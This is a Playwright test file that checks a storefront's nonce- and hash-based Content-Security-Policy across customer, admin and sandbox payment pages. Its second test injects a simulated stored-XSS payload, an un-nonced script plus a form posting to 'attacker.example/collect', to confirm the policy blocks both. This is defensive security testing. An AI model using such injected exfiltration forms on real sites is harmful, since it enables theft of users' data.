// The nonce-based Content-Security-Policy (issue 8 §3 "Headers", proxy.ts): every kind of page
// (storefront, sign-in, account, waiting page, the sandbox's Toss app screen and developer
// tools, 404, admin) answers with a fresh nonce — but the cached storefront pages (`/`,
// `/pricing`), whose scripts are named by hash instead (public-page-cache.spec.ts) — runs its scripts under it without a single
// violation (the guard in support/csp-guard.ts fails the test on any), and the policy really
// refuses a script or a form that an injection would add.
import type { Page, Response } from "@playwright/test";
import { fillSignIn, signUp } from "./support/auth";
import { collectCspViolations, expect, test } from "./support/csp-guard";
import { E2E_ADMIN, newCustomer } from "./support/test-accounts";

// About the server's answers and the browser's enforcement, not layout: desktop is enough.
test.skip(({ isMobile }) => isMobile, "runs once, on desktop");

const WAITING_PAGE = /\/payment-methods\/[0-9a-f-]{36}$/;

function nonceOf(response: Response | null): string {
  const policy = response?.headers()["content-security-policy"] ?? "";
  expect(policy).toContain("'strict-dynamic'");
  expect(policy).toContain("form-action 'self'");
  expect(policy).not.toContain("'unsafe-eval'");
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
  expect(nonce, `no nonce in "${policy}"`).toBeTruthy();
  return nonce!;
}

/** Opens `path`, checks the policy, and that every script on the page carries its nonce. */
async function visit(page: Page, path: string, status = 200): Promise<string> {
  const response = await page.goto(path);
  expect(response?.status(), path).toBe(status);
  const nonce = nonceOf(response);
  await page.waitForLoadState("networkidle");
  const scripts = await page.evaluate(() =>
    [...document.scripts].map((s) => ({ src: s.src || "inline", nonce: s.nonce })),
  );
  expect(scripts.length, `${path} has scripts`).toBeGreaterThan(0);
  // Every script the server wrote. Chunks the page's own scripts add later (a link prefetching
  // a cached storefront page loads that page's code) carry none and need none: 'strict-dynamic'
  // trusts what a nonced script loads.
  const html = (await response?.text()) ?? "";
  for (const script of scripts) {
    const written = html.includes(`src="${new URL(script.src, page.url()).pathname}"`);
    if (script.src !== "inline" && !written) continue;
    expect(script.nonce, `${path} ${script.src}`).toBe(nonce);
  }
  return nonce;
}

/** A cached storefront page: no nonce anywhere, its inline scripts allowed by their hashes. */
async function visitCached(page: Page, path: string) {
  const response = await page.goto(path);
  expect(response?.status(), path).toBe(200);
  const policy = response?.headers()["content-security-policy"] ?? "";
  const scriptPolicy = policy
    .split(";")
    .map((directive) => directive.trim())
    .find((directive) => directive.startsWith("script-src"));
  expect(scriptPolicy, path).toMatch(/'sha256-/);
  expect(scriptPolicy, path).not.toMatch(/'unsafe-inline'|'nonce-/);
  expect(policy, path).toContain("frame-ancestors 'none'");
  await page.waitForLoadState("networkidle");
  const nonces = await page.evaluate(() => [...document.scripts].map((s) => s.nonce));
  expect(nonces.length, `${path} has scripts`).toBeGreaterThan(0);
  for (const nonce of nonces) expect(nonce, path).toBe("");
}

test("every kind of page runs its scripts under a fresh nonce, with no CSP violation", async ({
  page,
  context,
}) => {
  test.setTimeout(120_000);
  await visitCached(page, "/");
  await visitCached(page, "/pricing");
  const first = await visit(page, "/sign-in");
  expect(await visit(page, "/sign-in"), "a fresh nonce per request").not.toBe(first);
  await visit(page, "/sign-up");
  await visit(page, "/this-page-does-not-exist", 404);

  // A customer: account, checkout, the waiting page and the sandbox's Toss app screen.
  await signUp(page, newCustomer("csp"));
  await visit(page, "/account");
  await visit(page, "/subscribe/basic");
  await page.getByRole("checkbox", { name: /자동결제에 동의해요/ }).check();
  await page.getByRole("button", { name: "토스페이로 결제수단 등록" }).click();
  await expect(page).toHaveURL(WAITING_PAGE);
  const waiting = page.url();
  await visit(page, waiting);

  // The web link: "이 기기에서 열기" on a computer, "브라우저에서 열기" on a phone.
  const appScreen = await page
    .getByRole("link", { name: /이 기기에서 열기|브라우저에서 열기/ })
    .getAttribute("href");
  const response = await page.goto(appScreen!);
  const nonce = nonceOf(response);
  // The countdown is the screen's one inline script: it runs only with the request's nonce.
  expect(await page.locator("script").evaluate((s: HTMLScriptElement) => s.nonce)).toBe(nonce);
  const rendered = await page.locator("#countdown").textContent();
  await expect
    .poll(() => page.locator("#countdown").textContent(), { timeout: 5_000 })
    .not.toBe(rendered);
  // Approving is a plain form post to the sandbox that redirects back to the store.
  await page.locator("label.tile", { hasText: "KB국민카드" }).click();
  await page.getByRole("button", { name: "동의하고 등록" }).click();
  await expect(page).toHaveURL(waiting);
  await expect(page.getByRole("heading", { name: "구독이 시작됐어요" })).toBeVisible({
    timeout: 20_000,
  });

  // The admin: every section, and the sandbox's developer tools.
  await context.clearCookies();
  await page.goto("/admin");
  await fillSignIn(page, E2E_ADMIN);
  await expect(page).toHaveURL(/\/admin$/);
  for (const path of [
    "/admin",
    "/admin/subscribers",
    "/admin/charges",
    "/admin/refunds",
    "/admin/plans",
    "/admin/plans/new",
    "/admin/events",
    "/admin/notifications",
    "/admin/audit",
    "/admin/settings",
  ]) {
    await visit(page, path);
  }
  for (const path of ["/_sandbox", "/_sandbox/keys", "/_sandbox/ledger"]) {
    const tool = await page.goto(`/sandbox/toss-pay${path}`);
    expect(tool?.status(), path).toBe(200);
    nonceOf(tool);
  }
});

test("the policy refuses a script and a form an injection would add", async ({ browser }) => {
  // A context of its own: the violations here are the point, not a failure of the page.
  const context = await browser.newContext();
  const violations = await collectCspViolations(context);
  const page = await context.newPage();
  // What a stored XSS would put into the server's HTML: a script without the nonce and a form
  // posting elsewhere. The real response's headers (its CSP) are kept.
  await page.route("**/pricing", async (route) => {
    const response = await route.fetch();
    const injected = (await response.text()).replace(
      "</body>",
      `<script>window.__injected = true</script>
       <form method="post" action="https://attacker.example/collect">
         <button id="exfiltrate">send</button>
       </form></body>`,
    );
    await route.fulfill({ response, body: injected });
  });
  await page.goto("/pricing");
  await page.waitForLoadState("networkidle");
  expect(
    await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected),
    "an inline script without the nonce must not run",
  ).toBeUndefined();
  await expect.poll(() => violations.join("\n")).toMatch(/script-src/);

  // Not locator.click(): it would wait for the navigation the policy stops from ever starting.
  await page.evaluate(() => document.querySelector<HTMLButtonElement>("#exfiltrate")?.click());
  await expect.poll(() => violations.join("\n")).toMatch(/form-action/);
  expect(page.url()).toMatch(/\/pricing$/);
  await context.close();
});
